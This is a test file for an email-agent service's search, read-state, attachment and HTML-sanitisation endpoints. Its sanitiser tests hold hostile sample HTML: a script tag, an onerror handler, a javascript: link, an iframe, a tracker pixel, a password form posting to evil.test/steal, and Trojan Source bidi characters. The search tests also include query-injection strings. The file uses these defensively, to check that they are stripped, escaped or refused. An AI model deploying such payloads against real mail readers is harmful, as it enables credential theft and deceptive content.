import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import { createTestApp, type TestApp } from '../../helpers/app.js';
import { ingestInbound } from '../../../src/services/inbound.js';
import { parseSearch } from '../../../src/services/search.js';
import { ftsQuery, tsQuery, tsQueryText } from '../../../src/db/repos/search.js';
import { onPostgres } from '../../helpers/db.js';

let t: TestApp;
const D = 'local.mailagent.localhost';
const AGENT = `agent@${D}`;

async function deliver(o: {
  to?: string; from?: string; subject: string; text?: string; html?: string;
  attachments?: { filename: string; content: Buffer | string; contentType: string; cid?: string }[];
}): Promise<string> {
  const raw = await new MailComposer({
    from: o.from ?? 'Alice Example <alice@sender.test>', to: o.to ?? AGENT, subject: o.subject,
    text: o.text ?? 'Plain body.', html: o.html, attachments: o.attachments,
  }).compile().build();
  const r = await ingestInbound(t.ctx, { raw, mailFrom: o.from ?? 'alice@sender.test', rcptTo: [o.to ?? AGENT], source: 'smtp', auth: { spf: true, dkim: true } });
  const id = r.stored?.[0]?.messageId;
  expect(id).toBeTruthy();
  return id!;
}

const ids = (r: { body: { data: { id: string }[] } }) => r.body.data.map((m) => m.id);

let invoice: string, ticket: string, code: string, other: string;
let otherKey: string, boundKey: string;

beforeAll(async () => {
  t = await createTestApp();
  const a = await t.req('POST', '/v1/agents', { body: { name: 'other' } });
  expect(a.status, a.text).toBe(201);
  otherKey = await t.makeKey({ scopes: ['read'], agent_id: a.body.id });
  boundKey = await t.makeKey({ scopes: ['read'], agent_id: t.boot.agent.id });
  invoice = await deliver({
    subject: 'Invoice 2291 for October', text: 'Please find the invoice attached. Total due: 120 EUR.',
    attachments: [{ filename: 'facture-été.pdf', content: Buffer.from('%PDF-1.4 fake pdf bytes'), contentType: 'application/pdf' }],
  });
  ticket = await deliver({ from: 'Bob Builder <bob@tickets.test>', subject: 'Your support ticket', text: 'We received your ticket about billing.' });
  code = await deliver({ from: 'noreply@auth.test', subject: 'Your verification code', text: 'Your verification code is 482913.' });
  other = await deliver({ to: `other@${D}`, subject: 'Invoice for the other agent', text: 'A private invoice.' });
});
afterAll(async () => t?.close());

describe('search (q) on received mail', () => {
  it('matches words and prefixes across fields, newest first, and keeps keyset pagination', async () => {
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'invoice' } }))).toEqual([other, invoice]);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'invo' } }))).toEqual([other, invoice]);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'billing' } }))).toEqual([ticket]);
    const p1 = await t.req('GET', '/v1/messages/received', { query: { q: 'invoice', limit: 1 } });
    expect(ids(p1)).toEqual([other]);
    expect(p1.body.has_more).toBe(true);
    const p2 = await t.req('GET', '/v1/messages/received', { query: { q: 'invoice', limit: 1, cursor: p1.body.next_cursor } });
    expect(ids(p2)).toEqual([invoice]);
    expect(p2.body.has_more).toBe(false);
  });

  it('field filters: from:, to:, subject:, "phrases", -exclusions, has:attachment, intent:, before:/after:', async () => {
    const q = async (s: string) => ids(await t.req('GET', '/v1/messages/received', { query: { q: s } }));
    expect(await q('from:bob')).toEqual([ticket]);
    expect(await q('from:bob@tickets.test')).toEqual([ticket]);
    expect(await q('from:"Bob Builder"')).toEqual([ticket]);
    expect(await q('to:other')).toEqual([other]);
    expect(await q('subject:ticket')).toEqual([ticket]);
    expect(await q('subject:billing')).toEqual([]); // billing is in the body only
    expect(await q('"verification code is"')).toEqual([code]);
    expect(await q('invoice -private')).toEqual([invoice]);
    expect(await q('has:attachment')).toEqual([invoice]);
    expect(await q('-has:attachment invoice')).toEqual([other]);
    expect(await q('intent:verification_code')).toEqual([code]);
    expect(await q('after:2000-01-01 before:2000-01-02')).toEqual([]);
    expect((await q('after:2000-01-01')).length).toBe(4);
    expect(await q('Total due: 120')).toEqual([invoice]);
    expect(await q('is:quarantined')).toEqual([]);
    expect(await q('is:unread ticket')).toEqual([ticket]);
  });

  it('an agent-bound key searches its own agent only', async () => {
    const r = await t.req('GET', '/v1/messages/received', { key: otherKey, query: { q: 'invoice' } });
    expect(ids(r)).toEqual([other]);
  });

  it('refuses a malformed query with invalid_param_value naming q', async () => {
    for (const bad of ['is:starred', 'has:pdf', 'before:yesterday', '-only -negatives', 'from:', 'intent:']) {
      const r = await t.req('GET', '/v1/messages/received', { query: { q: bad } });
      expect(r.status, bad).toBe(400);
      expect(r.body.error.code).toBe('invalid_param_value');
      expect(r.body.error.param).toBe('q');
    }
    // An impossible day is refused, not rolled over into the next month; a real 29 February is fine.
    for (const [bad, want] of [['after:2026-02-30', /after:2026-02-30 is not a date: 2026-02 has 28 days/], ['before:2026-04-31T10:00:00Z', /2026-04 has 30 days/], ['after:2026-13-45', /is not a date/]] as const) {
      const r = await t.req('GET', '/v1/messages/received', { query: { q: bad } });
      expect(r.status, bad).toBe(400);
      expect(r.body.error).toMatchObject({ code: 'invalid_param_value', param: 'q', message: expect.stringMatching(want) });
    }
    expect((await t.req('GET', '/v1/messages/received', { query: { q: 'after:2024-02-29' } })).status).toBe(200);
    // Punctuation alone searches nothing: refused rather than answered with every message.
    for (const [bad, want] of [['-', /cannot only exclude/], ['-""', /cannot only exclude/], ['- *', /cannot only exclude/], ['"', /nothing to search for/], ['*', /nothing to search for/], ['" ! ?', /nothing to search for/]] as const) {
      for (const path of ['/v1/messages/received', '/v1/messages', '/v1/threads']) {
        const r = await t.req('GET', path, { query: { q: bad } });
        expect(r.status, `${path} q=${bad}`).toBe(400);
        expect(r.body.error, `${path} q=${bad}`).toMatchObject({ code: 'invalid_param_value', param: 'q', message: expect.stringMatching(want) });
      }
    }
    // Punctuation beside a word or a filter is ignored, as before.
    for (const fine of ['invoice *', '* is:unread', '-"" has:attachment']) expect((await t.req('GET', '/v1/messages/received', { query: { q: fine } })).status, fine).toBe(200);
    const long = await t.req('GET', '/v1/messages/received', { query: { q: 'x'.repeat(501) } });
    expect(long.status).toBe(400);
    const many = await t.req('GET', '/v1/messages/received', { query: { q: Array.from({ length: 40 }, (_, i) => `w${i}`).join(' ') } });
    expect(many.status).toBe(400);
  });

  it('user text can never become FTS5 syntax', () => {
    expect(ftsQuery(parseSearch('a" OR sender:* NEAR(x').terms)).toBe('"a"""* AND "OR"* AND "sender:*"* AND "NEAR(x"*');
    expect(ftsQuery(parseSearch('from:"x y" -z').terms)).toBe('(sender : "x y") NOT ("z"*)');
  });

  it('user text can never become tsquery syntax (the PostgreSQL counterpart)', async () => {
    const text = (q: string) => tsQueryText(tsQuery(parseSearch(q).terms)!);
    expect(text(`a' OR sender:* <->(x !y`)).toBe(`'a':* & 'OR':* & 'sender':* & 'x':* & 'y':*`);
    expect(text('from:"x y" -z')).toBe(`(('x':A <-> 'y':A)) & !('z':*)`);
    expect(text('subject:alice@example.com')).toBe(`('alice':C <-> 'example':C <-> 'com':*C)`);
    expect(text('"cafe opening"')).toBe(["A", "B", "C", "D"].map((w) => `('cafe':${w} <-> 'opening':${w})`).join(' | ').replace(/^/, '(').concat(')'));
    // Words a fold could turn into quotes or backslashes stay data on either engine (no 500).
    for (const q of ['ŉot', 'ʼquoted', 'a\\b', "o'brien", '"it’s"']) {
      const r = await t.req('GET', '/v1/messages/received', { query: { q } });
      expect(r.status, `${q}: ${r.text}`).toBe(200);
    }
  });

  it('matches as FTS5 does on both engines: address parts, prefixes, diacritics, phrases within one column', async () => {
    const id = await deliver({ subject: 'Café opening', text: 'naïve résumé attached' });
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'cafe' } }))).toEqual([id]);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'resume naive' } }))).toEqual([id]);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'subject:caf' } }))).toEqual([id]);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'subject:attached' } }))).toEqual([]);
    // "opening naive" would be adjacent only across subject and body: FTS5 phrases never span columns.
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: '"opening naive"' } }))).toEqual([]);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: '"cafe opening"' } }))).toEqual([id]);
  });
});

describe('search on sent mail and threads', () => {
  it('finds sent messages by recipient and subject, and threads holding a match', async () => {
    const s = await t.req('POST', '/v1/messages', { key: t.testKey, body: { agent: 'agent', to: 'carol@example.com', subject: 'Quarterly report draft', body_text: 'See the numbers.' } });
    expect(s.status, s.text).toBe(201);
    expect(ids(await t.req('GET', '/v1/messages', { query: { q: 'to:carol quarterly' } }))).toEqual([s.body.id]);
    expect(ids(await t.req('GET', '/v1/messages', { query: { q: 'is:quarantined' } }))).toEqual([]);
    const threads = await t.req('GET', '/v1/threads', { query: { q: 'quarterly' } });
    expect(threads.body.data.map((x: { id: string }) => x.id)).toEqual([s.body.thread_id]);
    const inv = await t.req('GET', '/v1/messages/received/' + invoice);
    const th = await t.req('GET', '/v1/threads', { query: { q: 'has:attachment' } });
    expect(th.body.data.map((x: { id: string }) => x.id)).toEqual([inv.body.thread_id]);
  });

  it('the index follows deletes in the same transaction (a purged thread leaves no search hit)', async () => {
    const id = await deliver({ subject: 'Ephemeral zebra notice', text: 'zebra' });
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'zebra' } }))).toEqual([id]);
    const m = await t.req('GET', '/v1/messages/received/' + id);
    const del = await t.req('DELETE', '/v1/threads/' + m.body.thread_id);
    expect(del.status, del.text).toBe(200);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'zebra' } }))).toEqual([]);
    // The index's own rows (SQLite: the rowid map beside FTS5; PostgreSQL: the tsvector table).
    const keys = await t.ctx.db.selectFrom((onPostgres ? 'message_search' : 'message_search_keys') as never).selectAll()
      .where('message_id' as never, '=', id as never).execute();
    expect(keys).toEqual([]);
  });
});

describe('read state', () => {
  it('starts unread, is marked read and unread again, filters with is:unread / is:read', async () => {
    expect((await t.req('GET', '/v1/messages/received/' + ticket)).body.read).toBe(false);
    const r = await t.req('POST', `/v1/messages/received/${ticket}/read`, { body: {} });
    expect(r.status, r.text).toBe(200);
    expect(r.body).toEqual({ id: ticket, object: 'received_message', read: true });
    expect((await t.req('GET', '/v1/messages/received/' + ticket)).body.read).toBe(true);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'is:read' } }))).toEqual([ticket]);
    expect(ids(await t.req('GET', '/v1/messages/received', { query: { q: 'is:unread ticket' } }))).toEqual([]);
    await t.req('POST', `/v1/messages/received/${ticket}/read`, { body: { read: false } });
    expect((await t.req('GET', '/v1/messages/received/' + ticket)).body.read).toBe(false);
    const foreign = await t.req('POST', `/v1/messages/received/${ticket}/read`, { key: otherKey, body: {} });
    expect(foreign.status).toBe(404);
  });
});

describe('attachments', () => {
  it('downloads with type, RFC 6266 disposition, nosniff and a sandbox CSP; bound keys see only their agent', async () => {
    const m = await t.req('GET', '/v1/messages/received/' + invoice);
    const att = m.body.attachments[0];
    const r = await t.req('GET', `/v1/messages/${invoice}/attachments/${att.id}`);
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe('application/pdf');
    expect(r.headers['content-disposition']).toBe(`attachment; filename="facture-_t_.pdf"; filename*=UTF-8''facture-%C3%A9t%C3%A9.pdf`);
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    expect(r.headers['content-security-policy']).toContain('sandbox');
    expect(r.text).toBe('%PDF-1.4 fake pdf bytes');
    expect((await t.req('GET', `/v1/messages/${invoice}/attachments/${att.id}`, { key: boundKey })).status).toBe(200);
    const foreign = await t.req('GET', `/v1/messages/${invoice}/attachments/${att.id}`, { key: otherKey });
    expect(foreign.status).toBe(404);
    expect(foreign.body.error.code).toBe('resource_not_found');
    // The attachment must belong to the message named in the path.
    expect((await t.req('GET', `/v1/messages/${ticket}/attachments/${att.id}`)).status).toBe(404);
    expect((await t.req('GET', `/v1/messages/${invoice}/attachments/att_nope`)).status).toBe(404);
    expect((await t.req('GET', `/v1/messages/${invoice}/attachments/${att.id}`, { key: null })).status).toBe(401);
  });

  it('serves sent attachments too', async () => {
    const s = await t.req('POST', '/v1/messages', {
      key: t.testKey,
      body: { agent: 'agent', to: 'dan@example.com', subject: 'With file', body_text: 'x', attachments: [{ filename: 'notes.txt', content_base64: Buffer.from('hello').toString('base64'), content_type: 'text/plain' }] },
    });
    expect(s.status, s.text).toBe(201);
    const m = await t.req('GET', '/v1/messages/' + s.body.id);
    const r = await t.req('GET', `/v1/messages/${s.body.id}/attachments/${m.body.attachments[0].id}`);
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/plain/);
    expect(r.headers['content-disposition']).toBe('attachment; filename="notes.txt"');
    expect(r.text).toBe('hello');
  });
});

describe('an attachment without a name', () => {
  it('downloads as its id with the extension of its type (an inline cid: image: att_….png, not .bin)', async () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const raw = Buffer.from([
      'From: alice@sender.test', `To: ${AGENT}`, 'Subject: Inline logo', 'MIME-Version: 1.0', 'Content-Type: multipart/related; boundary="b1"', '',
      '--b1', 'Content-Type: text/html; charset=utf-8', '', '<p>Logo: <img src="cid:logo@x"></p>',
      '--b1', 'Content-Type: image/png', 'Content-Transfer-Encoding: base64', 'Content-ID: <logo@x>', 'Content-Disposition: inline', '', png.toString('base64'),
      '--b1', 'Content-Type: application/x-unheard-of', 'Content-Transfer-Encoding: base64', '', Buffer.from('zz').toString('base64'),
      '--b1--', '',
    ].join('\r\n'));
    const r = await ingestInbound(t.ctx, { raw, mailFrom: 'alice@sender.test', rcptTo: [AGENT], source: 'smtp', auth: { spf: true, dkim: true } });
    const id = r.stored![0].messageId;
    const m = await t.req('GET', `/v1/messages/received/${id}`);
    const byType = (type: string) => m.body.attachments.find((a: { content_type: string }) => a.content_type === type);
    const image = byType('image/png');
    expect(image.filename ?? null).toBeNull();
    const got = await t.req('GET', `/v1/messages/${id}/attachments/${image.id}`);
    expect(got.status).toBe(200);
    expect(got.headers['content-disposition']).toBe(`attachment; filename="${image.id}.png"`);
    const odd = await t.req('GET', `/v1/messages/${id}/attachments/${byType('application/x-unheard-of').id}`);
    expect(odd.headers['content-disposition']).toMatch(/\.bin"$/);
  });
});

describe('sanitised HTML', () => {
  it('removes scripts, handlers, forms, javascript: links and hiding CSS; blocks remote images unless asked', async () => {
    const pixel = Buffer.from('R0lGODlhAQABAAAAACw=', 'base64');
    const id = await deliver({
      subject: 'Hostile HTML',
      html: `<p>Hello <b>there</b></p><script>alert(1)</script><img src="x" onerror="alert(2)">
        <form action="https://evil.test/steal"><input name="pw"><button>Go</button></form>
        <a href="javascript:alert(3)">js link</a> <a href="https://ok.test/page">ok link</a>
        <p style="display:none;color:red;text-align:center">hidden text</p>
        <style>p{display:none}</style><iframe src="https://evil.test"></iframe>
        <img src="https://tracker.test/pixel.gif" alt="logo"><img src="cid:logo@x">`,
      attachments: [{ filename: 'logo.gif', content: pixel, contentType: 'image/gif', cid: 'logo@x' }],
    });
    const r = await t.req('GET', `/v1/messages/received/${id}/html`);
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/html/);
    const csp = String(r.headers['content-security-policy']);
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain('sandbox');
    expect(csp).not.toMatch(/script-src/);
    expect(csp).toContain('img-src data:;');
    expect(r.headers['x-mailagent-blocked-images']).toBe('1');
    const html = r.text.slice(r.text.indexOf('<body>'));
    expect(html).toContain('<b>there</b>');
    for (const gone of ['<script', 'alert(1)', 'onerror', '<form', '<input', 'javascript:', 'display', '<style', '<iframe', 'tracker.test']) {
      expect(html, gone).not.toContain(gone);
    }
    expect(html).toContain('text-align:center');
    expect(html).toContain('href="https://ok.test/page" target="_blank" rel="noopener noreferrer"');
    expect(html).toContain('[remote image blocked: logo]');
    expect(html).toContain('src="data:image/gif;base64,');

    const allowed = await t.req('GET', `/v1/messages/received/${id}/html`, { query: { remote_images: 'true' } });
    expect(allowed.text).toContain('src="https://tracker.test/pixel.gif"');
    expect(String(allowed.headers['content-security-policy'])).toContain('img-src data: https: http:');
    expect((await t.req('GET', `/v1/messages/received/${id}/html`, { key: otherKey })).status).toBe(404);
    const plain = await t.req('GET', `/v1/messages/received/${ticket}/html`);
    expect(plain.status).toBe(404);
  });

  it('shows the characters and elements that reorder text as what they are (Trojan Source), keeps right-to-left text working', async () => {
    const id = await deliver({
      subject: 'Reordered',
      html: `<p>Pay \u202Eevil.exe\u202C now</p><p><bdo dir="rtl">gnp.rotavirp</bdo></p>`
        + `<p><a href="https://ok.test/" title="a\u202Eb">link</a><img src="https://x.test/i.png" alt="c\u2066d"></p>`
        + `<p dir="rtl">\u05E9\u05DC\u05D5\u05DD\u200F world</p><p>hidden\u{E0041}\u{E0042}tags</p><p>soft\u00ADhyphen</p>`,
    });
    const r = await t.req('GET', `/v1/messages/received/${id}/html`);
    expect(r.status).toBe(200);
    const html = r.text.slice(r.text.indexOf('<body>'));
    expect(html).toContain('Pay &lt;U+202E&gt;evil.exe&lt;U+202C&gt; now');
    expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069]|\udb40[\udc00-\udc7f]/);
    expect(html).toContain('hidden&lt;U+E0041&gt;&lt;U+E0042&gt;tags');
    expect(html).toContain('title="a&lt;U+202E&gt;b"');
    expect(html).toContain('[remote image blocked: c&lt;U+2066&gt;d]');
    expect(html).not.toContain('<bdo');
    expect(html).toContain('gnp.rotavirp');
    // Right-to-left mail keeps its direction and marks; a soft hyphen stays a soft hyphen.
    expect(html).toContain('<p dir="rtl">\u05E9\u05DC\u05D5\u05DD\u200F world</p>');
    expect(html).toContain('soft\u00ADhyphen');
  });
});
